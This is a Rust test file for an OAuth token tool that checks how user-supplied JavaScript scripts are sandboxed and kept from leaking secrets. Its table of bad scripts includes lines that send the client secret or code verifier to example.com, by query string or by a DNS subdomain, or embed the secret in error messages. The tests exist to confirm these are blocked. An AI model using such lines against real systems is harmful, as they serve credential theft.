//! A person's own scripts, by the real command: each does its part, and none does more.
#![allow(clippy::unwrap_used, reason = "a failed step is a failed test")]

use std::path::Path;

use tokenrack_tests::{Keyring, Outcome, Peer, Profile, Secrets, Session};

const SECRET: &str = "shh-only-for-scripts+1";

const SPEC: &str = r#"
schema = 1
id = "acme"
name = "Acme"
sources = ["a test"]

[vars.tenant]
title = "Tenant"
pattern = "slug"

[server]
authorization_endpoint = "{base}/authorize"
token_endpoint = "{base}/token"
token_endpoint_auth_methods_supported = ["client_secret_post"]

[client]
secret = "required"

[authorize]
capture = ["region"]

[revoke]
style = "none"

[api]
base = "{base}/"

[scripts]
"#;

/// The four scripts as other connectors have them.
const ALL: [(&str, &str); 4] = [
    ("token_request", "get-token-data.js"),
    ("credentials", "get-credentials-from-token-response.js"),
    ("refresh", "refresh-credentials.js"),
    ("test", "test.js"),
];

/// A connection of a provider file with scripts, on a profile of its own.
struct Scene {
    profile: Profile,
    peer: Peer,
    _session: Session,
}

impl Scene {
    fn new() -> Self {
        let session = Session::start(Keyring::Unlocked);
        Self { profile: Profile::new(&session), peer: Peer::scripted(), _session: session }
    }

    /// Writes the provider file, with the four scripts and, in the place of one of them, another.
    fn add(&self, name: &str, own: Option<(&str, &str)>) -> Outcome {
        let folder = self.profile.folder().join(name);
        std::fs::create_dir(&folder).unwrap();
        let mut text = SPEC.replace("{base}", self.peer.issuer());
        for (key, file) in ALL {
            let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts").join(file);
            std::fs::copy(shipped, folder.join(file)).unwrap();
            text += &format!("{key} = {file:?}\n");
            if let Some((_, other)) = own.filter(|(own, _)| *own == key) {
                let other = other.replace("{base}", self.peer.issuer());
                std::fs::write(folder.join(file), other).unwrap();
            }
        }
        let file = folder.join("acme.toml");
        std::fs::write(&file, text).unwrap();
        let args = [
            "add",
            file.to_str().unwrap(),
            "--name",
            name,
            "--client-id",
            "desktop",
            "--redirect",
            "deep-link",
            "--var",
            "tenant=acme-north",
            "--client-secret-stdin",
        ];
        self.profile.run_with_input(&args, &format!("{SECRET}\n"))
    }

    /// Signs in; answers how the command that brought the redirect ended.
    fn sign_in(&self, name: &str) -> Outcome {
        let attempt = self.profile.begin(name);
        let outcome = self.profile.run(&["callback", &attempt.sign_in()]);
        attempt.finish();
        outcome
    }

    fn connected(&self, name: &str, own: Option<(&str, &str)>) {
        self.add(name, own).done();
        self.sign_in(name).done();
    }

    /// Everything secret that the server knows of is nowhere on this machine but in the keychain.
    fn no_secret_is_out(&self) {
        let mut secrets = Secrets::of(&[&self.peer]);
        secrets.add(SECRET);
        for entry in self.peer.log() {
            for field in ["authCode", "verifier", "renewal"] {
                secrets.add(entry["form"][field].as_str().unwrap_or_default());
            }
        }
        secrets.are_nowhere_in(&self.profile);
    }
}

/// The failure's own words.
fn cause(outcome: &Outcome, code: &str) -> String {
    let error = outcome.error();
    assert_eq!(error["code"], code, "{error}");
    error["cause"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn the_four_scripts_connect_name_the_account_refresh_and_test() {
    let scene = Scene::new();
    let profile = &scene.profile;
    let added = scene.add("demo", None).done().value();
    assert!(added["cautions"].to_string().contains("acme.toml brings scripts of its own"), "{added}");
    // The record keeps its copy.
    std::fs::remove_dir_all(profile.folder().join("demo")).unwrap();
    scene.sign_in("demo").done();

    let view = profile.view("demo");
    assert_eq!((view["account"].as_str(), view["refreshable"].as_bool()), (Some("Ada Lovelace"), Some(true)));
    assert_eq!(lifetime(&view), 60, "{view}");
    let asked = scene.peer.requests("/token").pop().unwrap();
    assert_eq!(
        (asked["tenant"].as_str(), asked["form"]["app"].as_str()),
        (Some("acme-north"), Some("desktop"))
    );

    let token = profile.token("demo");
    profile.run(&["status", "demo", "--check"]).done();
    for _ in 0..2 {
        profile.run(&["refresh", "demo"]).done();
    }
    assert_ne!(profile.token("demo"), token);
    let view = profile.view("demo");
    assert_eq!((view["account"].as_str(), lifetime(&view)), (Some("Ada Lovelace"), 30), "{view}");
    let me = profile.run_plain(&["request", "demo", "GET", "me"]).done();
    assert!(me.stdout.contains("Ada Lovelace"), "{me:?}");

    ureq::post(format!("{}/_peer/forget", scene.peer.issuer())).send_empty().unwrap();
    let refused = profile.run(&["status", "demo", "--check"]);
    assert_eq!(cause(&refused, "script/failed"), "test threw: the token is not accepted");
    let refused = profile.run(&["refresh", "demo"]);
    assert_eq!(cause(&refused, "script/failed"), "refreshCredentials returned no access_token");
    // Only a clear word ends a grant.
    assert_eq!(profile.status("demo"), "connected");
    scene.no_secret_is_out();
}

/// Minutes, rounded.
fn lifetime(view: &serde_json::Value) -> i64 {
    let instant = |field: &str| view[field].as_str().unwrap().parse::<jiff::Timestamp>().unwrap().as_second();
    (instant("expires_at") - instant("issued_at") + 30) / 60
}

#[test]
fn what_a_script_keeps_it_finds_again() {
    let scene = Scene::new();
    let read = "exports.getCredentialsFromTokenResponse = ({ tokenResponse: { data }, connectionParameters: { tenant, region } }) =>
        ({ access_token: data.token, refresh_token: data.renewal, kept: 'kept-only-' + 'here-1', where: tenant + region });";
    scene.connected("demo", Some(("credentials", read)));
    let view = scene.profile.view("demo");
    assert!(view["account"].is_null() && view["expires_at"].is_null(), "{view}");
    let mut secrets = Secrets::default();
    secrets.add("kept-only-here-1");
    secrets.are_nowhere_in(&scene.profile);

    let again = "exports.refreshCredentials = async ({ connectorParameters, credentials: { refresh_token, kept, where } }) => {
        if (kept !== 'kept-only-' + 'here-1' || where !== 'acme-northeu-north') throw new Error('lost');
        const body = new URLSearchParams({ action: 'renew', renewal: refresh_token, app: connectorParameters.clientId });
        const { token } = await (await fetch(connectorParameters.tokenUri, { method: 'POST', body })).json();
        return { access_token: token };
    };";
    let file = scene.profile.home().join("providers");
    std::fs::write(
        file.join("acme.toml"),
        SPEC.replace("{base}", scene.peer.issuer())
            + "credentials = \"read.js\"\nrefresh = '''"
            + again
            + "'''\n"
            + "token_request = \"get.js\"\n",
    )
    .unwrap();
    std::fs::write(file.join("read.js"), read).unwrap();
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/get-token-data.js"),
        file.join("get.js"),
    )
    .unwrap();
    let args = [
        "add",
        "acme",
        "--name",
        "own",
        "--client-id",
        "desktop",
        "--redirect",
        "deep-link",
        "--var",
        "tenant=acme-north",
        "--client-secret-stdin",
    ];
    scene.profile.run_with_input(&args, &format!("{SECRET}\n")).done();
    scene.sign_in("own").done();
    let before = scene.profile.token("own");
    scene.profile.run(&["refresh", "own"]).done();
    assert_ne!(scene.profile.token("own"), before);
    scene.no_secret_is_out();
}

/// A script in the place of the token request, and what is said of it.
const BAD_REQUESTS: [(&str, &str, &str, &str); 11] = [
    ("loops", "while (true) {}", "script/limit", "getTokenData ran longer than 5 seconds"),
    (
        "allocates",
        "const all = []; for (;;) all.push('x'.repeat(1e6) + all.length)",
        "script/limit",
        "getTokenData wanted more than 32 MB of memory",
    ),
    (
        "waits",
        "await fetch('{base}/hang')",
        "script/limit",
        "getTokenData ran longer than 5 seconds, while 127.0.0.1:",
    ),
    (
        "reaches",
        "await fetch('https://example.com/?' + input.connectorParameters.clientSecret)",
        "script/failed",
        "to let the script ask it: [api] hosts = [\"example.com\"] in acme.toml",
    ),
    (
        "reaches-by-name",
        "await fetch('https://' + input.codeVerifier + '.example.com/')",
        "script/failed",
        "getTokenData was not let out: ….example.com is none of 127.0.0.1:",
    ),
    (
        "in-the-clear",
        "await fetch('http://example.com/')",
        "script/failed",
        "example.com: only https is allowed",
    ),
    (
        "follows",
        "const { status } = await fetch('{base}/away?to=https://example.com/'); throw new Error('status ' + status)",
        "script/failed",
        "getTokenData threw: status 302",
    ),
    (
        "throws",
        "const s = input.connectorParameters.clientSecret; throw new Error(`${s} ${encodeURIComponent(s)} ${btoa(s)} ${JSON.stringify(input)}`)",
        "script/failed",
        "getTokenData threw: … … …",
    ),
    (
        "echoes",
        "const body = new URLSearchParams({ deep: 'canary-' + input.queryParameters.code }); throw await (await fetch('{base}/echo', { method: 'POST', body })).text()",
        "script/failed",
        "getTokenData threw: ",
    ),
    ("nonsense", "return input.codeVerifier", "script/failed", "getTokenData returned no object"),
    (
        "waits-for-nothing",
        "await new Promise(() => {})",
        "script/failed",
        "getTokenData waits for a promise that nothing settles",
    ),
];

#[test]
fn a_script_that_does_wrong_is_stopped_and_says_no_secret() {
    let scene = Scene::new();
    for (name, body, code, said) in BAD_REQUESTS {
        let script = format!("exports.getTokenData = async (input) => {{ {body} }};");
        scene.add(name, Some(("token_request", &script))).done();
        let told = cause(&scene.sign_in(name), code);
        assert!(told.contains(said), "{name}: {told}");
        assert!(!told.contains("canary"), "{name}: {told}");
    }
    for (name, script, said) in [
        ("syntax", "exports.getTokenData = (", "getTokenData cannot be read as JavaScript: "),
        ("absent", "exports.other = 1", "getTokenData is missing: the script sets no exports.getTokenData"),
    ] {
        scene.add(name, Some(("token_request", script))).done();
        let told = cause(&scene.sign_in(name), "script/failed");
        assert!(told.contains(said), "{name}: {told}");
    }
    assert!(scene.peer.requests("/token").is_empty(), "a code was sent");
    // A code that a script was given is a secret, although no server has seen it.
    let codes = scene.peer.requests("/authorize");
    let mut secrets = Secrets::default();
    codes.iter().filter_map(|entry| entry["answer"]["code"].as_str()).for_each(|code| secrets.add(code));
    secrets.add(SECRET);
    secrets.are_nowhere_in(&scene.profile);
    scene.no_secret_is_out();
}

#[test]
fn a_refresh_by_a_script_that_fails_loses_nothing() {
    let scene = Scene::new();
    for (name, body, code, said) in [
        ("loops", "for (;;) ;", "script/limit", "refreshCredentials ran longer"),
        ("nothing", "return {}", "script/failed", "refreshCredentials returned no access_token"),
        (
            "number",
            "return { access_token: 7 }",
            "script/failed",
            "refreshCredentials returned no access_token",
        ),
        ("when", "return { expires_at: 'soon' }", "script/failed", "an expires_at that is no time"),
        (
            "throws",
            "throw new Error('not now: ' + credentials.refresh_token)",
            "script/failed",
            "threw: not now: …",
        ),
        (
            "offline",
            "await fetch('http://127.0.0.1:1/')",
            "script/failed",
            "127.0.0.1:1 is none of 127.0.0.1:",
        ),
    ] {
        let script = format!("exports.refreshCredentials = async ({{ credentials }}) => {{ {body} }};");
        scene.connected(name, Some(("refresh", &script)));
        let token = scene.profile.token(name);
        let told = cause(&scene.profile.run(&["refresh", name]), code);
        assert!(told.contains(said), "{name}: {told}");
        assert_eq!((scene.profile.token(name), scene.profile.status(name)), (token, "connected".to_owned()));
    }
    let ends = "exports.refreshCredentials = () => { throw new Error('invalid_grant') };";
    scene.connected("ends", Some(("refresh", ends)));
    cause(&scene.profile.run(&["refresh", "ends"]), "oauth/invalid_grant");
    assert_eq!(scene.profile.status("ends"), "action_needed");
    scene.no_secret_is_out();
}

#[test]
fn new_tokens_that_a_script_has_lost_are_known_to_be_lost() {
    let scene = Scene::new();
    let script = "exports.refreshCredentials = async ({ connectorParameters, credentials }) => {
        const body = new URLSearchParams({ action: 'renew', renewal: credentials.refresh_token, app: connectorParameters.clientId });
        const { error } = await (await fetch(connectorParameters.tokenUri, { method: 'POST', body })).json();
        throw new Error(error ?? 'lost on the way');
    };";
    scene.connected("demo", Some(("refresh", script)));
    let first = scene.profile.run(&["refresh", "demo"]);
    assert_eq!(cause(&first, "script/failed"), "refreshCredentials threw: lost on the way");
    cause(&scene.profile.run(&["refresh", "demo"]), "refresh/interrupted");
    assert_eq!(scene.profile.status("demo"), "action_needed");
    scene.no_secret_is_out();
}

#[test]
fn a_test_says_yes_or_why_not() {
    let scene = Scene::new();
    for (name, body, said) in [
        ("no", "return false", "test says that the tokens do not work"),
        ("maybe", "return 'perhaps'", "test returned neither true nor false"),
    ] {
        scene.connected(name, Some(("test", &format!("exports.test = () => {{ {body} }};"))));
        assert_eq!(cause(&scene.profile.run(&["status", name, "--check"]), "script/failed"), said);
    }
    scene.profile.run(&["status", "--check"]).failed(2, "input/invalid");
}

#[test]
fn a_mistake_in_the_table_is_named_with_its_line() {
    let scene = Scene::new();
    let folder = scene.profile.folder();
    std::fs::write(folder.join("long.js"), format!("exports.test = 1; //{}", "x".repeat(64 * 1024))).unwrap();
    let line = SPEC.lines().count() + 1;
    for (text, said) in [
        ("test = \"absent.js\"", "scripts.test: there is no readable file absent.js beside this one"),
        (
            "test = \"../acme/long.js\"",
            "scripts.test: a script lies beside the provider file: its name alone; write \"long.js\"",
        ),
        ("test = \"long.js\"", "scripts.test: longer than 64 KB"),
        (
            "test = \"return true\"",
            "scripts.test: neither the name of a .js file nor a script that sets exports.test",
        ),
        ("refreshCredentials = \"long.js\"", "unknown key; write scripts.refresh"),
    ] {
        let file = folder.join("acme.toml");
        std::fs::write(&file, SPEC.replace("{base}", scene.peer.issuer()) + text).unwrap();
        let outcome = scene.profile.run(&["add", file.to_str().unwrap(), "--client-id", "x"]);
        let told = cause(&outcome, "provider/invalid_spec");
        assert!(told.contains(said) && told.contains(&format!("acme.toml:{line}: ")), "{told}");
    }
}
